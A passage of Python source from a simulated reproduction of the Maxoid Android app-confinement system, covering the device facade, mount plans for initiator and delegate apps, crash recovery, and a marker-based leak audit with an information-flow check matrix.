            process.namespace = self._build_namespace(
                process.context.app, process.context.initiator
            )
            report.namespaces_rebuilt += 1
        if report.namespaces_rebuilt:
            self.audit_log.record(
                "recovery", "rebuilt mount namespaces", count=report.namespaces_rebuilt
            )
        # 6. Re-validate the security goals over a traced probe workload.
        if validate:
            report.sweep_violations, report.sweep_spans_checked = (
                self._validation_sweep()
            )
            self.audit_log.record(
                "recovery",
                "validation sweep",
                violations=len(report.sweep_violations),
                spans=report.sweep_spans_checked,
            )
        # 7. Seal the black box: everything the recorder saw up to and
        # through the crash plus what recovery did about it.
        if self.obs.recorder.armed:
            self.obs.recorder.seal(
                "crash-recovery",
                recovery={
                    "file_commits_replayed": report.file_commits_replayed,
                    "file_commits_rolled_back": report.file_commits_rolled_back,
                    "cow_rows_replayed": report.cow_rows_replayed,
                    "cow_rows_rolled_back": report.cow_rows_rolled_back,
                    "orphans_reaped": len(report.orphans_reaped),
                    "namespaces_rebuilt": report.namespaces_rebuilt,
                    "sweep_violations": len(report.sweep_violations),
                },
            )
        return report

    def _replay_file_commit(self, intent) -> None:
        """Finish an interrupted volatile file commit (idempotent: same
        destination, same bytes, resolved through the initiator's view)."""
        namespace = self._build_namespace(intent.package, None)
        cred = Credentials(uid=intent.uid, gid=intent.gid)
        fs, inner = namespace.resolve(intent.destination)
        parent = vpath.parent(inner)
        if not fs.exists(parent, cred):
            fs.mkdir(parent, cred, parents=True)
        with fs.open(
            inner, cred, read=False, write=True, create=True, truncate=True
        ) as handle:
            handle.write(intent.data)

    def _validation_sweep(self) -> Tuple[List[str], int]:
        """Probe every live app process's view with the online security
        monitor attached: S1-S4 are checked as each span closes, with the
        provenance ledger armed so any violation lands in the audit log
        carrying its full lineage chain.

        Note: runs inside ``self.obs.capture``, which resets this device's
        tracer — callers should not invoke ``recover(validate=True)`` while
        holding an open capture of their own on the same context.
        """
        packages = [p.manifest.package for p in self.packages.all_packages()]
        with self.obs.capture(ring_capacity=32768, prov=True) as obs:
            monitor = SecurityMonitor(
                obs.tracer,
                packages,
                ledger=obs.provenance,
                audit_log=self.audit_log,
            )
            with monitor:
                for process in list(self.processes.alive()):
                    if process.context.app is None:
                        continue
                    sys = Syscalls(process)
                    probe = vpath.join(EXTDIR, f".maxoid-probe-{process.pid}")
                    try:
                        sys.write_file(probe, b"probe", mode=0o666)
                        sys.read_file(probe)
                        sys.unlink(probe)
                    except ReproError:
                        # A view that denies the probe is a confinement
                        # success, not a recovery failure.
                        continue
        return monitor.messages, monitor.delegate_spans

    # ------------------------------------------------------------------
    # Background work pumps
    # ------------------------------------------------------------------

    def run_downloads(self) -> int:
        """Run the Downloads provider's background worker to completion."""
        return self.downloads.run_pending()

    # ------------------------------------------------------------------
    # Introspection for experiments
    # ------------------------------------------------------------------

    def mount_table_for(self, process: Process) -> List[str]:
        table = []
        for point, fs in sorted(process.namespace.mount_table().items()):
            description = getattr(fs, "describe", None)
            if description is not None:
                table.append(f"{point}: {', '.join(description())}")
            else:
                table.append(f"{point}: {getattr(fs, 'label', fs.__class__.__name__)}")
        return table
