"""The device facade: boot a simulated Android system, with or without
Maxoid (paper Figure 3).

``Device(maxoid_enabled=True)`` boots the full Maxoid stack: branch
manager in Zygote, IPC guard in the Binder driver, COW-proxied system
providers, the modified services, and the Launcher drop targets.
``Device(maxoid_enabled=False)`` boots the stock-Android baseline the
paper's benchmarks compare against: same framework, none of the Maxoid
hooks, a single shared view of everything.
"""

from __future__ import annotations

from typing import Any, Dict, List, Optional

from repro.android.am import ActivityManagerService, Invocation
from repro.android.app_api import AppApi
from repro.android.content.contacts import ContactsProvider
from repro.android.content.downloads import DownloadsProvider
from repro.android.content.media import MediaProvider
from repro.android.content.provider import ContentResolver
from repro.android.content.system_io import SystemStorageIO, VOLATILE_MOUNT
from repro.android.content.user_dictionary import UserDictionaryProvider
from repro.android.intents import Intent
from repro.android.launcher import Launcher
from repro.android.packages import AndroidManifest, InstalledPackage, PackageManager
from repro.android.services import (
    BluetoothService,
    ClipboardService,
    DownloadManager,
    MediaScanner,
    TelephonyService,
)
from repro.android.storage import EXTDIR
from repro.android.zygote import Zygote
from repro.core.branches import BranchManager
from repro.core.ipc_guard import IpcGuard
from repro.core.manifest import MaxoidManifest
from repro.core.views import plan_delegate_mounts, plan_initiator_mounts
from repro.core.volatile import MaxoidSystemService
from repro.kernel.binder import BinderDriver
from repro.kernel.mounts import MountNamespace
from repro.kernel.network import NetworkStack
from repro.kernel.proc import Process, ProcessTable, TaskContext
from repro.kernel.syscall import Syscalls
from repro.kernel.sysfs import Sysfs
from repro.kernel.vfs import Credentials, Filesystem, ROOT_CRED


class Device:
    """A booted simulated Android device."""

    def __init__(self, maxoid_enabled: bool = True) -> None:
        self.maxoid_enabled = maxoid_enabled
        # -- kernel ---------------------------------------------------------
        self.system_fs = Filesystem(label="system")
        self.processes = ProcessTable()
        self.sysfs = Sysfs(self.processes)
        self.binder = BinderDriver()
        self.network = NetworkStack()
        self.branches = BranchManager(self.system_fs)
        # -- namespaces -------------------------------------------------------
        # Every app sees the system fs at / and public external storage at
        # EXTDIR; the system process additionally sees the volatile forest.
        self.base_namespace = MountNamespace(self.system_fs)
        self.base_namespace.mount(EXTDIR, self.branches.pub_fs)
        self.system_namespace = self.base_namespace.unshare()
        self.system_namespace.mount(VOLATILE_MOUNT, self.branches.vol_fs)
        self.system_process = Process(
            cred=Credentials(uid=0),
            namespace=self.system_namespace,
            context=TaskContext(app=None, initiator=None),
            name="system_server",
        )
        self.processes.register(self.system_process)
        # -- framework ---------------------------------------------------------
        self.packages = PackageManager(self.system_fs)
        self.resolver = ContentResolver(self.binder)
        system_io = SystemStorageIO(Syscalls(self.system_process))
        self.user_dictionary = UserDictionaryProvider()
        self.downloads = DownloadsProvider(self.network, system_io, self.system_process)
        self.media = MediaProvider(system_io)
        self.contacts = ContactsProvider()
        self.resolver.register(self.user_dictionary)
        self.resolver.register(self.downloads)
        self.resolver.register(self.media)
        self.resolver.register(self.contacts)
        self.clipboard = ClipboardService(maxoid_enabled)
        self.bluetooth = BluetoothService(maxoid_enabled)
        self.telephony = TelephonyService(maxoid_enabled)
        self.download_manager = DownloadManager(self.resolver)
        self.media_scanner = MediaScanner(self.resolver)
        # -- Maxoid hooks ---------------------------------------------------------
        self.maxoid_manifests: Dict[str, MaxoidManifest] = {}
        self.ipc_guard: Optional[IpcGuard] = None
        if maxoid_enabled:
            self.ipc_guard = IpcGuard(self.binder)
            self.maxoid_service = MaxoidSystemService(
                self.binder,
                self.branches,
                clear_volatile=self.clear_volatile,
                clear_delegate_priv=self.clear_delegate_priv,
            )
        self.zygote = Zygote(
            self.processes,
            self.sysfs,
            self.packages,
            self._build_namespace,
            maxoid_enabled=maxoid_enabled,
        )
        self.am = ActivityManagerService(
            self.packages,
            self.zygote,
            self.processes,
            self.binder,
            ipc_guard=self.ipc_guard,
            maxoid_manifests=self.maxoid_manifests,
        )
        self.launcher = Launcher(self.am, self)
        self._apps: Dict[str, Any] = {}

    # ------------------------------------------------------------------
    # Zygote's namespace builder
    # ------------------------------------------------------------------

    def _build_namespace(self, package: str, initiator: Optional[str]) -> MountNamespace:
        if not self.maxoid_enabled:
            return self.base_namespace.unshare()
        manifest = self.maxoid_manifests.get(package)
        if initiator is None or initiator == package:
            plans = plan_initiator_mounts(package, manifest)
        else:
            self.branches.prepare_delegate_priv(package, initiator)
            plans = plan_delegate_mounts(
                package, initiator, manifest, self.maxoid_manifests.get(initiator)
            )
        return self.branches.materialize(self.base_namespace, plans)

    # ------------------------------------------------------------------
    # App installation and launch
    # ------------------------------------------------------------------

    def install(self, manifest: AndroidManifest, app: Optional[Any] = None) -> InstalledPackage:
        """Install a package; ``app`` is the app's code (an object with a
        ``main(api, intent)`` method) if it has any."""
        installed = self.packages.install(manifest)
        if manifest.maxoid is not None:
            self.maxoid_manifests[manifest.package] = manifest.maxoid
        if app is not None:
            self._apps[manifest.package] = app
            self.am.register_handler(manifest.package, self._make_handler(manifest.package))
            if hasattr(app, "on_install"):
                app.on_install(self, installed)
        return installed

    def _make_handler(self, package: str):
        def handler(process: Process, intent: Intent):
            api = AppApi(self, process)
            return self._apps[package].main(api, intent)

        return handler

    def register_app_provider(self, provider: Any) -> None:
        """Register an app-defined content provider.

        Its Binder endpoint runs in the owning app's (initiator) context,
        so the IPC guard lets the owner's delegates reach it — the Email
        attachment flow (paper section 2.2.III)."""
        self.resolver.register(provider)
        if self.ipc_guard is not None and provider.owner is not None:
            self.ipc_guard.register_instance(
                f"provider:{provider.authority}",
                TaskContext(app=provider.owner, initiator=None),
            )

    def app(self, package: str) -> Any:
        return self._apps[package]

    def launch(self, package: str, intent: Optional[Intent] = None) -> Invocation:
        """The user taps an app icon."""
        return self.launcher.start(package, intent)

    def launch_as_delegate(
        self, package: str, initiator: str, intent: Optional[Intent] = None
    ) -> Invocation:
        return self.launcher.start_as_delegate(package, initiator, intent)

    def api_for(self, process: Process) -> AppApi:
        """An API handle for an existing process (used by tests/benches)."""
        return AppApi(self, process)

    def spawn(self, package: str, initiator: Optional[str] = None) -> AppApi:
        """Spawn a process directly (no intent), returning its API —
        convenient for tests and microbenchmarks."""
        process = self.zygote.fork_app(package, initiator)
        return AppApi(self, process)

    # ------------------------------------------------------------------
    # Maxoid state management (Launcher / initiator entry points)
    # ------------------------------------------------------------------

    def clear_volatile(self, package: str) -> int:
        """Discard Vol(package): volatile files, provider volatile records,
        and the delegate clipboard."""
        removed = self.branches.clear_volatile(package)
        for provider in (self.user_dictionary, self.media, self.downloads, self.contacts):
            removed += provider.proxy.discard_all_volatile(package)
        self.clipboard.clear_domain(package)
        return removed

    def clear_delegate_priv(self, package: str) -> int:
        """Discard Priv(x^package) for every app x."""
        count = self.branches.clear_delegate_priv(package)
        for process in self.processes.instances_of_initiator(package):
            process.kill()
        return count

    # ------------------------------------------------------------------
    # Background work pumps
    # ------------------------------------------------------------------

    def run_downloads(self) -> int:
        """Run the Downloads provider's background worker to completion."""
        return self.downloads.run_pending()

    # ------------------------------------------------------------------
    # Introspection for experiments
    # ------------------------------------------------------------------

    def mount_table_for(self, process: Process) -> List[str]:
        table = []
        for point, fs in sorted(process.namespace.mount_table().items()):
            description = getattr(fs, "describe", None)
            if description is not None:
                table.append(f"{point}: {', '.join(description())}")
            else:
                table.append(f"{point}: {getattr(fs, 'label', fs.__class__.__name__)}")
        return table
