"""The Maxoid core: custom views of state for initiators and delegates.

This package implements the paper's primary contribution:

- :mod:`repro.core.context` — execution-context helpers (who runs on whose
  behalf).
- :mod:`repro.core.manifest` — the Maxoid manifest: private external
  directories and private-intent filters (section 6.1).
- :mod:`repro.core.cow` — the SQLite copy-on-write proxy layer: delta
  tables, COW views, whiteout records, the administrative view, and the
  user-defined-view hierarchy (section 5.2).
- :mod:`repro.core.branches` — the Aufs branch manager that assembles each
  app instance's mount table (section 4.2, Table 2).
- :mod:`repro.core.volatile` — volatile state management: enumerate,
  commit, discard (section 3.3).
- :mod:`repro.core.ppriv` — normal vs persistent private state with the
  divergence re-fork rule (section 3.2, Figure 2).
- :mod:`repro.core.ipc_guard` — invocation transitivity and Binder
  restrictions (section 3.4).
- :mod:`repro.core.netguard` — the delegate network cutoff.
- :mod:`repro.core.device` — the device facade that boots a simulated
  Android system with or without Maxoid.
- :mod:`repro.core.audit` — who-can-see-what analysis used by the Table 1
  and Figure 1 experiments.
"""

from repro.core.cow import CowProxy
from repro.core.manifest import MaxoidManifest

__all__ = ["CowProxy", "MaxoidManifest", "Device"]


def __getattr__(name):
    # Device pulls in the whole framework; import lazily to keep low-level
    # users (and import cycles) happy.
    if name == "Device":
        from repro.core.device import Device

        return Device
    raise AttributeError(name)
