"""Mount plans: which Aufs branches each app instance gets (paper Table 2).

This module is pure policy — it computes, as data, the mount table the
branch manager should build for an initiator or a delegate. Keeping the
plan symbolic lets the Table 2 benchmark print it in the paper's own
notation and lets tests check the layout without building filesystems.

Branch *kinds* name the backing stores the branch manager owns:

- ``pub`` — public external storage (``Pub(all)`` files);
- ``extpriv`` — per-app private directories on external storage;
- ``vol_ext`` / ``vol_int`` — an initiator's volatile state ``Vol(A)``
  (delegate writes to external paths / to the initiator's internal dir);
- ``deleg_int`` — a delegate instance's writable private branch (its
  ``nPriv`` copy-on-write layer);
- ``deleg_extpriv`` — a delegate's writes to its *own* private external
  dirs (part of ``Priv(B^A)``, invisible to the initiator);
- ``ppriv`` — persistent private state, keyed per (delegate, initiator);
- ``system_priv`` — an app's real internal directory on the system fs.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.android.storage import DATA_ROOT, EXTDIR, PPRIV_ROOT, StorageLayout
from repro.core.context import delegate_key
from repro.core.manifest import MaxoidManifest, EMPTY_MANIFEST
from repro.kernel import path as vpath


@dataclass(frozen=True)
class BranchSpec:
    """One branch of a planned mount: backing store kind + subpath."""

    kind: str
    subpath: str
    writable: bool
    label: str  # the paper's notation, e.g. "A/tmp" or "B-A/data/B"


@dataclass(frozen=True)
class MountPlan:
    """One mount point with its ordered branches (highest priority first)."""

    mountpoint: str
    branches: List[BranchSpec]
    always_allow_read: bool = True

    def describe(self) -> str:
        parts = []
        for branch in self.branches:
            rw = "rw" if branch.writable else "ro"
            parts.append(f"{branch.label}({rw})")
        return f"{self.mountpoint}: {', '.join(parts)}"


def _short(package: str) -> str:
    """Short app name for labels (the paper writes A, B, ...)."""
    return package.rsplit(".", 1)[-1]


def plan_initiator_mounts(package: str, manifest: Optional[MaxoidManifest]) -> List[MountPlan]:
    """The mount plan for app ``package`` running on behalf of itself.

    Single-branch mounts everywhere (paper 7.2.1: "Maxoid uses a single
    branch at any internal or external mount point for initiators").
    """
    manifest = manifest or EMPTY_MANIFEST
    me = _short(package)
    plans = [
        MountPlan(
            mountpoint=EXTDIR,
            branches=[BranchSpec("pub", "/", writable=True, label="pub")],
        ),
        MountPlan(
            mountpoint=vpath.join(EXTDIR, "tmp"),
            branches=[
                BranchSpec("vol_ext", package, writable=True, label=f"{me}/tmp")
            ],
        ),
        MountPlan(
            mountpoint=vpath.join(DATA_ROOT, package, "tmp"),
            branches=[
                BranchSpec(
                    "vol_int", package, writable=True, label=f"{me}/tmp-int"
                )
            ],
        ),
    ]
    for private_dir in manifest.private_ext_dirs:
        plans.append(
            MountPlan(
                mountpoint=vpath.join(EXTDIR, private_dir),
                branches=[
                    BranchSpec(
                        "extpriv",
                        vpath.join(package, private_dir),
                        writable=True,
                        label=f"{me}/{private_dir}",
                    )
                ],
            )
        )
    return plans


def plan_delegate_mounts(
    package: str,
    initiator: str,
    manifest: Optional[MaxoidManifest],
    initiator_manifest: Optional[MaxoidManifest],
) -> List[MountPlan]:
    """The mount plan for ``package`` running on behalf of ``initiator``
    (Table 2 of the paper, plus the internal-storage mounts of 4.2)."""
    manifest = manifest or EMPTY_MANIFEST
    initiator_manifest = initiator_manifest or EMPTY_MANIFEST
    me = _short(package)
    init = _short(initiator)
    pair = delegate_key(package, initiator)
    plans = [
        # nPriv(B^A): writable overlay over Priv(B).
        MountPlan(
            mountpoint=vpath.join(DATA_ROOT, package),
            branches=[
                BranchSpec("deleg_int", pair, writable=True, label=f"{me}-{init}/int"),
                BranchSpec("system_priv", package, writable=False, label=f"{me}/int"),
            ],
        ),
        # pPriv(B^A): one writable branch, persistent per (B, A).
        MountPlan(
            mountpoint=vpath.join(PPRIV_ROOT, package),
            branches=[
                BranchSpec("ppriv", pair, writable=True, label=f"ppriv/{me}-{init}")
            ],
        ),
        # The initiator's internal dir, exposed read-only with writes
        # redirected to Vol(A) (paper 4.2 "internal private files exposed
        # to delegates").
        MountPlan(
            mountpoint=vpath.join(DATA_ROOT, initiator),
            branches=[
                BranchSpec(
                    "vol_int", initiator, writable=True, label=f"{init}/tmp-int"
                ),
                BranchSpec("system_priv", initiator, writable=False, label=f"{init}/int"),
            ],
        ),
        # EXTDIR: volatile overlay over public storage (Table 2 row 1).
        MountPlan(
            mountpoint=EXTDIR,
            branches=[
                BranchSpec("vol_ext", initiator, writable=True, label=f"{init}/tmp"),
                BranchSpec("pub", "/", writable=False, label="pub"),
            ],
        ),
    ]
    # The initiator's private external dirs (Table 2 row 2): readable, with
    # writes redirected into Vol(A) under the same relative path.
    for private_dir in initiator_manifest.private_ext_dirs:
        plans.append(
            MountPlan(
                mountpoint=vpath.join(EXTDIR, private_dir),
                branches=[
                    BranchSpec(
                        "vol_ext",
                        vpath.join(initiator, private_dir),
                        writable=True,
                        label=f"{init}/tmp/{private_dir}",
                    ),
                    BranchSpec(
                        "extpriv",
                        vpath.join(initiator, private_dir),
                        writable=False,
                        label=f"{init}/{private_dir}",
                    ),
                ],
            )
        )
    # The delegate's own private external dirs (Table 2 row 3): writes are
    # confined to a branch invisible to both A and B.
    for private_dir in manifest.private_ext_dirs:
        plans.append(
            MountPlan(
                mountpoint=vpath.join(EXTDIR, private_dir),
                branches=[
                    BranchSpec(
                        "deleg_extpriv",
                        vpath.join(pair, private_dir),
                        writable=True,
                        label=f"{me}-{init}/{private_dir}",
                    ),
                    BranchSpec(
                        "extpriv",
                        vpath.join(package, private_dir),
                        writable=False,
                        label=f"{me}/{private_dir}",
                    ),
                ],
            )
        )
    return plans
