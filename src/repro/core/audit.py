"""Who-can-see-what auditing (paper sections 2.2 and 3.1).

Drives the Table 1 experiment ("state left after apps process their
target data") and the Figure 1 experiment (which information flows are
possible between ``A``, ``B^A``, ``Priv``/``Pub``/``Vol`` states).

The auditor plants a *marker* byte string inside sensitive data, runs a
scenario, then searches every observer's view — files it can read, its
provider query results, the clipboard, the network egress log — for the
marker. A marker sighting in an observer that should be isolated is a
confinement failure.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Sequence

from repro.errors import KernelError, ReproError
from repro.android.app_api import AppApi
from repro.android.storage import DATA_ROOT, EXTDIR
from repro.android.uri import Uri
from repro.kernel import path as vpath


@dataclass
class TraceReport:
    """Where a marker was found, from one observer's point of view."""

    observer: str
    file_hits: List[str] = field(default_factory=list)
    provider_hits: List[str] = field(default_factory=list)
    clipboard_hit: bool = False

    @property
    def clean(self) -> bool:
        return not self.file_hits and not self.provider_hits and not self.clipboard_hit


def readable_files(api: AppApi, roots: Optional[Sequence[str]] = None) -> List[str]:
    """Every file path the process can list *and* read, under ``roots``
    (defaults to external storage plus the app's internal dir)."""
    if roots is None:
        roots = [EXTDIR, api.internal_dir]
    found: List[str] = []
    for root in roots:
        try:
            stack = [root]
            while stack:
                current = stack.pop()
                for name in api.sys.listdir(current):
                    child = vpath.join(current, name)
                    try:
                        if api.sys.stat(child).is_dir:
                            stack.append(child)
                        else:
                            found.append(child)
                    except KernelError:
                        continue
        except KernelError:
            continue
    return sorted(found)


def find_marker_in_files(api: AppApi, marker: bytes, roots: Optional[Sequence[str]] = None) -> List[str]:
    """Paths in the observer's view whose contents contain ``marker``."""
    hits = []
    for path in readable_files(api, roots):
        try:
            if marker in api.sys.read_file(path):
                hits.append(path)
        except KernelError:
            continue
    return hits


def find_marker_in_providers(api: AppApi, marker: str) -> List[str]:
    """Provider rows visible to the observer that mention ``marker``.

    Scans the three system providers' main query surfaces."""
    hits: List[str] = []
    surfaces = [
        Uri.content("user_dictionary", "words"),
        Uri.content("downloads", "all_downloads"),
        Uri.content("media", "files"),
    ]
    for uri in surfaces:
        try:
            result = api.query(uri)
        except ReproError:
            continue
        for row in result.rows:
            if any(marker in str(value) for value in row if value is not None):
                hits.append(f"{uri}: {row}")
    return hits


def audit_observer(api: AppApi, marker: bytes) -> TraceReport:
    """Full marker audit from one observer's point of view."""
    text_marker = marker.decode("utf-8", "ignore")
    clip = api.clipboard_get()
    return TraceReport(
        observer=str(api.process.context),
        file_hits=find_marker_in_files(api, marker),
        provider_hits=find_marker_in_providers(api, text_marker) if text_marker else [],
        clipboard_hit=bool(clip and text_marker and text_marker in clip),
    )


def leaked_off_device(device: Any, marker: bytes) -> bool:
    """Did the marker reach the network, Bluetooth or SMS?"""
    if device.network.leaked_to_network(marker):
        return True
    if device.bluetooth.leaked(marker):
        return True
    text = marker.decode("utf-8", "ignore")
    return bool(text) and device.telephony.leaked(text)


# ---------------------------------------------------------------------------
# Figure 1: the information-flow matrix
# ---------------------------------------------------------------------------


@dataclass
class FlowCheck:
    """One attempted flow and whether it succeeded."""

    description: str
    expected: bool
    observed: bool

    @property
    def ok(self) -> bool:
        return self.expected == self.observed


def figure1_flow_matrix(device: Any, initiator_pkg: str, delegate_pkg: str) -> List[FlowCheck]:
    """Exercise the solid (allowed) and absent (forbidden) arrows of the
    paper's Figure 1 and report what actually happened.

    Plants distinct markers in Priv(A) and Priv(B), runs ``B^A`` against
    them, and checks every read/write edge.
    """
    checks: List[FlowCheck] = []
    a = device.spawn(initiator_pkg)
    priv_a_path = a.write_internal("figure1/secret_a.txt", b"MARK-PRIV-A")
    b_normal = device.spawn(delegate_pkg)
    priv_b_path = b_normal.write_internal("figure1/own_b.txt", b"MARK-PRIV-B")
    b_normal.write_external("figure1/public.txt", b"MARK-PUB")
    delegate = device.spawn(delegate_pkg, initiator=initiator_pkg)

    def attempt(fn) -> bool:
        try:
            fn()
            return True
        except ReproError:
            return False

    # 1. B^A reads Priv(A) — allowed.
    checks.append(
        FlowCheck(
            "B^A reads Priv(A)",
            expected=True,
            observed=attempt(lambda: delegate.sys.read_file(priv_a_path)),
        )
    )
    # 2. B^A reads Priv(B) (its forked copy) — allowed (U1).
    checks.append(
        FlowCheck(
            "B^A reads Priv(B^A) (forked from Priv(B))",
            expected=True,
            observed=attempt(lambda: delegate.sys.read_file(priv_b_path)),
        )
    )
    # 3. B^A reads Pub(all) — allowed (U1).
    checks.append(
        FlowCheck(
            "B^A reads Pub(all)",
            expected=True,
            observed=attempt(
                lambda: delegate.sys.read_file(vpath.join(EXTDIR, "figure1/public.txt"))
            ),
        )
    )
    # 4. B^A writes its view of public state -> redirected to Vol(A).
    delegate.write_external("figure1/delegate-output.txt", b"MARK-VOL-A")
    wrote_public = b_normal.sys.exists(vpath.join(EXTDIR, "figure1/delegate-output.txt"))
    checks.append(
        FlowCheck("B^A write reaches Pub(all) directly", expected=False, observed=wrote_public)
    )
    vol_visible_to_a = attempt(
        lambda: a.sys.read_file(vpath.join(EXTDIR, "tmp/figure1/delegate-output.txt"))
    )
    checks.append(FlowCheck("A reads Vol(A)", expected=True, observed=vol_visible_to_a))
    # 5. B^A reads its own write (read-your-writes, U2).
    checks.append(
        FlowCheck(
            "B^A reads its own public write",
            expected=True,
            observed=attempt(
                lambda: delegate.sys.read_file(
                    vpath.join(EXTDIR, "figure1/delegate-output.txt")
                )
            ),
        )
    )
    # 6. B^A overwrites Priv(A) in place — must be copy-on-write.
    delegate.sys.write_file(priv_a_path, b"MARK-TAMPERED")
    a_sees_tamper = a.sys.read_file(priv_a_path) == b"MARK-TAMPERED"
    checks.append(
        FlowCheck("B^A write reaches Priv(A) directly", expected=False, observed=a_sees_tamper)
    )
    # 7. B^A's private write stays out of Priv(B).
    delegate.write_internal("figure1/delegate-private.txt", b"MARK-PRIV-BA")
    b_sees = b_normal.sys.exists(
        vpath.join(DATA_ROOT, delegate_pkg, "figure1/delegate-private.txt")
    )
    checks.append(
        FlowCheck("B^A private write reaches Priv(B)", expected=False, observed=b_sees)
    )
    # 8. A reads Priv(B^A) — forbidden (S3).
    a_reads_ba = attempt(
        lambda: a.sys.read_file(vpath.join(DATA_ROOT, delegate_pkg, "figure1/own_b.txt"))
    )
    checks.append(FlowCheck("A reads Priv(B^A)", expected=False, observed=a_reads_ba))
    # 9. B^A reaches the network — forbidden.
    checks.append(
        FlowCheck(
            "B^A reaches the network",
            expected=False,
            observed=attempt(lambda: delegate.connect("example.com")),
        )
    )
    # 10. Another app X reads Vol(A) — forbidden (S1).
    x = device.spawn(delegate_pkg)  # fresh normal instance = X's rights
    x_reads_vol = attempt(
        lambda: x.sys.read_file(vpath.join(EXTDIR, "tmp/figure1/delegate-output.txt"))
    )
    checks.append(FlowCheck("X reads Vol(A)", expected=False, observed=x_reads_vol))
    return checks


# ---------------------------------------------------------------------------
# Post-mortem audit log (fault injection & recovery)
# ---------------------------------------------------------------------------


@dataclass
class AuditEvent:
    """One audited event: an injected fault, a recovery action, or a
    security violation flagged by the online monitor."""

    seq: int
    category: str  # "fault", "recovery", or "violation"
    message: str
    details: Dict[str, Any] = field(default_factory=dict)
    # Which device's log this event came from. ``seq`` is monotonic *per
    # device*, so ``(seq, device_id)`` totally orders a merged fleet feed.
    device_id: str = "device0"

    def render(self) -> str:
        detail = ", ".join(f"{k}={v!r}" for k, v in sorted(self.details.items()))
        return f"[{self.device_id}:{self.seq:04d}] {self.category}: {self.message}" + (
            f" ({detail})" if detail else ""
        )

    def to_dict(self) -> Dict[str, Any]:
        """JSON-safe form (details copied, not shared — lineage lists
        included, so mutating the dict cannot corrupt the log)."""
        return {
            "seq": self.seq,
            "category": self.category,
            "message": self.message,
            "details": copy.deepcopy(self.details),
            "device_id": self.device_id,
        }

    @classmethod
    def from_dict(cls, data: Dict[str, Any]) -> "AuditEvent":
        return cls(
            seq=int(data["seq"]),
            category=str(data["category"]),
            message=str(data["message"]),
            details=copy.deepcopy(data.get("details", {})),
            device_id=str(data.get("device_id", "device0")),
        )


class AuditLog:
    """Device-wide record of injected faults and recovery actions.

    A crash-sweep post-mortem reads this to see *why* a run failed: which
    fault point fired (with its call-site context), and what every
    recovery step subsequently did — journals replayed or rolled back,
    orphans reaped, namespaces rebuilt, sweep verdicts.
    """

    def __init__(self, device_id: str = "device0") -> None:
        self.device_id = device_id
        self._events: List[AuditEvent] = []
        self._seq = 0
        # Fault-plane sequence numbers already ingested, so repeated
        # recover() calls don't duplicate injection records.
        self._ingested: set = set()
        #: ``fn(event)`` per recorded event — the flight recorder's tap.
        #: Empty (one truthiness check per record) until something arms it.
        self._listeners: List[Any] = []

    def add_listener(self, fn: Any) -> None:
        """Register ``fn(event)`` to observe every recorded event.

        Listeners fire synchronously inside :meth:`record`, so a sealer
        sees the violation before whoever recorded it can unwind. Not
        cleared by :meth:`clear` — detach explicitly."""
        if fn not in self._listeners:
            self._listeners.append(fn)

    def remove_listener(self, fn: Any) -> None:
        if fn in self._listeners:
            self._listeners.remove(fn)

    def record(self, category: str, message: str, **details: Any) -> AuditEvent:
        self._seq += 1
        event = AuditEvent(
            seq=self._seq,
            category=category,
            message=message,
            details=details,
            device_id=self.device_id,
        )
        self._events.append(event)
        if self._listeners:
            for listener in self._listeners:
                listener(event)
        return event

    def ingest_faults(self, plane: Any) -> int:
        """Copy new entries from a fault plane's injection log; returns how
        many were added (already-seen entries are skipped)."""
        added = 0
        for entry in plane.injection_log:
            key = entry.get("seq")
            if key in self._ingested:
                continue
            self._ingested.add(key)
            self.record(
                "fault",
                f"{entry['outcome']} at {entry['point']} (hit #{entry['hit']})",
                point=entry["point"],
                policy=entry.get("policy", ""),
                **entry.get("ctx", {}),
            )
            added += 1
        return added

    def record_violation(
        self,
        rule: str,
        message: str,
        lineage: Optional[List[str]] = None,
        **details: Any,
    ) -> AuditEvent:
        """Record one S1-S4 violation from the security monitor, keeping
        the provenance derivation chain alongside the verdict."""
        return self.record(
            "violation", message, rule=rule, lineage=list(lineage or []), **details
        )

    def events(self, category: Optional[str] = None) -> List[AuditEvent]:
        if category is None:
            return list(self._events)
        return [e for e in self._events if e.category == category]

    def violations(self) -> List[AuditEvent]:
        """Just the security-violation entries, in order."""
        return self.events("violation")

    def render(self) -> str:
        """The post-mortem trace, one line per event."""
        return "\n".join(event.render() for event in self._events)

    def clear(self) -> None:
        self._events.clear()
        self._seq = 0
        self._ingested.clear()

    def __len__(self) -> int:
        return len(self._events)
