"""Maxoid reproduction: transparently confining mobile applications with
custom views of state (Xu & Witchel, EuroSys 2015).

A pure-Python simulation of the Maxoid system and the Android substrate it
runs on. The quickest entry point::

    from repro import Device, Intent, AndroidManifest

    device = Device(maxoid_enabled=True)
    # install apps, invoke delegates, inspect views...

Packages:

- :mod:`repro.kernel` — simulated kernel: VFS, union filesystem (Aufs),
  mount namespaces, processes, Binder, network, sysfs.
- :mod:`repro.minisql` — a miniature SQL engine (views, INSTEAD OF
  triggers, UNION ALL flattening) standing in for SQLite.
- :mod:`repro.android` — the Android framework: packages, intents,
  Activity Manager, Zygote, content providers, services, Launcher.
- :mod:`repro.core` — Maxoid itself: custom views of files and providers,
  the COW proxy, volatile state, persistent private state, IPC and
  network confinement, and the :class:`~repro.core.device.Device` facade.
- :mod:`repro.apps` — simulated real-world apps for the paper's case
  studies (Dropbox, Email, Browser, document viewers, scanners, ...).
- :mod:`repro.workloads` — workload generators, the latency model, and
  the measurement harness behind the benchmarks.
- :mod:`repro.obs` — cross-layer observability: the span tracer, the
  metrics registry, and per-layer breakdown reports, all behind the
  single ``repro.obs.OBS.enabled`` switch (off by default, zero cost).
"""

from repro.android.intents import Intent, IntentFilter
from repro.android.packages import AndroidManifest
from repro.android.permissions import Permission
from repro.android.uri import Uri
from repro.core.cow import CowProxy
from repro.core.device import Device
from repro.core.manifest import MaxoidManifest
from repro.minisql import Database

__version__ = "1.0.0"

__all__ = [
    "Device",
    "Intent",
    "IntentFilter",
    "AndroidManifest",
    "MaxoidManifest",
    "Permission",
    "Uri",
    "CowProxy",
    "Database",
    "__version__",
]
