"""Cross-layer observability for the Maxoid reproduction.

One process-wide :class:`Observability` instance (``OBS``) owns the
:class:`~repro.obs.trace.Tracer` and the
:class:`~repro.obs.metrics.Metrics` registry. Instrumented hot paths in
the kernel (:mod:`repro.kernel.syscall`, :mod:`repro.kernel.aufs`,
:mod:`repro.kernel.binder`, :mod:`repro.kernel.mounts`), the framework
